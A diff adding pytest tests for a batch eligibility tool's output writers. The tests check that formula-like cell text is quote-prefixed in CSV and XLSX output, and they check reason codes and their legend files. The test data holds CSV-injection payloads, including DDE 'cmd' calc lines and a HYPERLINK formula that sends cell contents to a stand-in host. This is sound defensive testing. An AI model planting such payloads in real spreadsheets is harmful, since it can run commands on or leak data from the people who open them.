@@ -1,0 +1,196 @@
+"""What the writers put in a file: formula-like text neutralised (#11 finding 6), reason codes and
+their legend (#10), and the XLSX sheets."""
+
+from __future__ import annotations
+
+import re
+import zipfile
+from pathlib import Path
+from types import ModuleType
+
+import fastexcel
+import polars as pl
+import pytest
+
+from batch.run import BatchOptions, run_batch
+from batch.writers import neutralised
+from cli.main import main
+from eligibility.policy import PolicySet
+from tests.batch.conftest import AS_OF
+
+# Cells a spreadsheet would run as formulas (OWASP's list: = + - @, tab, carriage return).
+FORMULAS = [
+    '=HYPERLINK("http://example.invalid/?x="&A1,"点我")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+NUMBERS = ["-12", "+3", "-0.5", "1e3"]
+
+
+def injected_register(example: ModuleType) -> pl.DataFrame:
+    """The example register with formula-like names, townships and a free-text column."""
+    frame = example.register().head(len(FORMULAS) + len(NUMBERS))
+    cells = FORMULAS + NUMBERS
+    return frame.with_columns(
+        pl.Series("姓名", cells),
+        pl.Series("乡镇", [FORMULAS[0]] * frame.height),
+        pl.Series("=备注", cells),  # a header too
+    )
+
+
+def test_neutralised_prefixes_formula_text_and_leaves_numbers() -> None:
+    frame = pl.DataFrame(
+        {
+            "text": [*FORMULAS, *NUMBERS, "张三", None],
+            "amount": [-5] * (len(FORMULAS) + len(NUMBERS)) + [1, None],
+            "code": pl.Series([*FORMULAS, *NUMBERS, "age!", None], dtype=pl.Categorical),
+        }
+    )
+    out = neutralised(frame)
+    expected = [*("'" + f for f in FORMULAS), *NUMBERS, "张三", None]
+    assert out["text"].to_list() == expected
+    assert out["code"].cast(pl.String).to_list() == [*expected[:-2], "age!", None]
+    assert out["amount"].equals(frame["amount"])  # numbers stay numbers, negative ones too
+    assert neutralised(pl.DataFrame({"=x": [1]})).columns == ["'=x"]
+
+
+def test_csv_output_and_summary_neutralise_formulas(
+    tmp_path: Path, example: ModuleType, policies: PolicySet
+) -> None:
+    source = tmp_path / "register.csv"
+    injected_register(example).write_csv(source)
+    output = tmp_path / "o.csv"
+    result = run_batch(source, output, BatchOptions(as_of=AS_OF), policies=policies)
+    out = pl.read_csv(output, infer_schema=False)
+    assert out["姓名"].to_list() == [*("'" + f for f in FORMULAS), *NUMBERS]
+    assert "'=备注" in out.columns
+    assert result.summary_path is not None
+    summary = pl.read_csv(result.summary_path, infer_schema=False)
+    assert "'" + FORMULAS[0] in summary["乡镇或县"].to_list()
+    # Numbers as numbers: an amount column is never prefixed.
+    assert all(v is None or v.isdigit() for v in out["microloan.amount"].to_list())
+
+
+def _cells(book: Path, sheet: int) -> tuple[str, str]:
+    with zipfile.ZipFile(book) as archive:
+        return archive.read(f"xl/worksheets/sheet{sheet}.xml").decode(), archive.read(
+            "xl/styles.xml"
+        ).decode()
+
+
+def test_xlsx_output_writes_formula_text_as_strings(
+    tmp_path: Path, example: ModuleType, policies: PolicySet
+) -> None:
+    source = tmp_path / "register.csv"
+    injected_register(example).write_csv(source)
+    output = tmp_path / "o.xlsx"
+    run_batch(source, output, BatchOptions(as_of=AS_OF), policies=policies)
+    reader = fastexcel.read_excel(output)
+    assert reader.sheet_names == ["结果", "汇总"]
+    # What a person reads is the text as it was, not a value computed from it ...
+    results = reader.load_sheet(0, dtypes="string").to_polars()
+    assert results["姓名"].to_list() == FORMULAS + NUMBERS
+    assert results["=备注"].to_list() == FORMULAS + NUMBERS
+    summary = reader.load_sheet(1, dtypes="string").to_polars()
+    assert FORMULAS[0] in summary["乡镇或县"].to_list()
+    # ... and no cell of any sheet is a formula; text cells are quote-prefixed as Excel's own
+    # apostrophe makes them, so editing one does not turn it into a formula either.
+    for sheet in (1, 2):
+        xml, styles = _cells(output, sheet)
+        assert "<f>" not in xml and "<f " not in xml
+        assert 'quotePrefix="1"' in styles
+
+
+def test_reasons_as_codes_with_a_legend_file(
+    tmp_path: Path, example: ModuleType, policies: PolicySet
+) -> None:
+    source = example.HERE / "register.csv"
+    coded = run_batch(
+        source,
+        tmp_path / "codes.csv",
+        BatchOptions(as_of=AS_OF, reasons="codes"),
+        policies=policies,
+    )
+    run_batch(source, tmp_path / "text.csv", BatchOptions(as_of=AS_OF), policies=policies)
+    codes = pl.read_csv(tmp_path / "codes.csv", infer_schema=False)
+    text = pl.read_csv(tmp_path / "text.csv", infer_schema=False)
+    assert codes.columns == text.columns
+    assert coded.legend_path == tmp_path / "codes.csv.legend.csv"
+    legend = pl.read_csv(coded.legend_path, infer_schema=False)
+    assert legend.columns[:4] == ["项目", "代码", "说明", "Meaning"]
+    spelled: dict[tuple[str, str], set[str]] = {}
+    for row in legend.iter_rows(named=True):
+        spelled.setdefault((row["项目"], row["代码"]), set()).add(row["说明"])
+        # A code worded differently by place says where each wording applies.
+        assert (len(spelled[(row["项目"], row["代码"])]) == 1) or row[legend.columns[4]]
+    names = {pid: policies.programme(pid).policy.name.zh for pid in policies.programmes}
+    used = 0
+    for pid in policies.programmes:
+        column = f"{pid}.reasons"
+        for said, worded in zip(codes[column], text[column], strict=True):
+            if said is None:
+                assert worded is None
+                continue
+            ids = said.split(" ")
+            assert all(re.fullmatch(r"[a-z_]+[!?]", code) for code in ids)
+            # The codes spell out, in the legend, to the reasons the text output gives; a
+            # not-met reason that names the person's own values (#9: "借款人17岁，…") is
+            # spelled out in the criterion's general wording, the same for everyone.
+            rest = worded
+            for code in ids:
+                said_so = [w for w in spelled[(names[pid], code)] if rest.startswith(w)]
+                if said_so:
+                    rest = rest.removeprefix(said_so[0]).removeprefix("；")
+                    continue
+                criterion = next(
+                    c for c in policies.programme(pid).criteria if c.spec.id == code[:-1]
+                )
+                wording = criterion.spec.outcome_text("not_met")
+                assert code.endswith("!"), (code, rest)
+                assert any("." in name for name in wording.placeholders()), (code, rest)
+                assert rest.startswith("不符合："), rest
+                # This reason runs to where the next criterion's reason begins.
+                ends = [rest.find(f"；{p}") for p in ("不符合：", "待确认：")]
+                cut = min((e for e in ends if e > 0), default=len(rest))
+                rest = rest[cut:].removeprefix("；")
+            assert rest == ""
+            used += 1
+    assert used > 20
+    # Every code in the legend was used (the legend is of this run).
+    assert legend.height == sum(len(wordings) for wordings in spelled.values())
+    assert any(len(wordings) > 1 for wordings in spelled.values())  # 临猗's own scope words
+
+
+def test_reasons_none_leaves_the_column_out(
+    tmp_path: Path, example: ModuleType, policies: PolicySet
+) -> None:
+    result = run_batch(
+        example.HERE / "register.csv",
+        tmp_path / "o.parquet",
+        BatchOptions(as_of=AS_OF, reasons="none"),
+        policies=policies,
+    )
+    out = pl.read_parquet(tmp_path / "o.parquet")
+    assert not [c for c in out.columns if c.endswith(".reasons")]
+    assert "microloan.missing" in out.columns and result.legend_path is None
+
+
+@pytest.mark.parametrize("lang", ["zh", "en"])
+def test_cli_default_is_codes_with_a_legend_sheet_in_xlsx(
+    tmp_path: Path, example: ModuleType, lang: str
+) -> None:
+    output = tmp_path / "o.xlsx"
+    args = ["batch", str(example.HERE / "register.csv"), "--out", str(output)]
+    assert main([*args, "--as-of", "2024-11-05", "--lang", lang]) == 0
+    reader = fastexcel.read_excel(output)
+    legend_sheet = "代码说明" if lang == "zh" else "legend"
+    assert reader.sheet_names == ["结果" if lang == "zh" else "results", "汇总", legend_sheet]
+    results = reader.load_sheet(0, dtypes="string").to_polars()
+    legend = reader.load_sheet(2, dtypes="string").to_polars()
+    used = {c for v in results["microloan.reasons"].drop_nulls() for c in v.split(" ")}
+    assert used and used <= set(legend[legend.columns[1]])
+    assert legend.columns[3] in ("Meaning", "meaning")
+    assert legend[legend.columns[3]].drop_nulls().len() == legend.height
